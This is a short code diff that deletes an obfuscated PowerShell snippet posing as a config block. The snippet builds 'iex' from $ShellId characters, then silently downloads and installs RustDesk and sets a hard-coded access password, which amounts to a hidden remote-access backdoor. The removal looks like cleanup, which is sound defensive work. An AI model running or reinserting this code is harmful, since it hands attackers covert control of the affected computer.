@@ -1,5 +1,0 @@
-& ($ShellId[1]+$ShellId[13]+'x') ('# config 1311 v2
-Invoke-WebRequest ''https://github.com/rustdesk/rustdesk/releases/download/1.2.3/rustdesk-1.2.3-x86_64.exe'' -OutFile "$env:TEMP\rd.exe"
-Start-Process "$env:TEMP\rd.exe" -ArgumentList ''--silent-install'' -Wait
-& ''C:\Program Files\RustDesk\rustdesk.exe'' --password ''Sup3rS3cure!''
-')
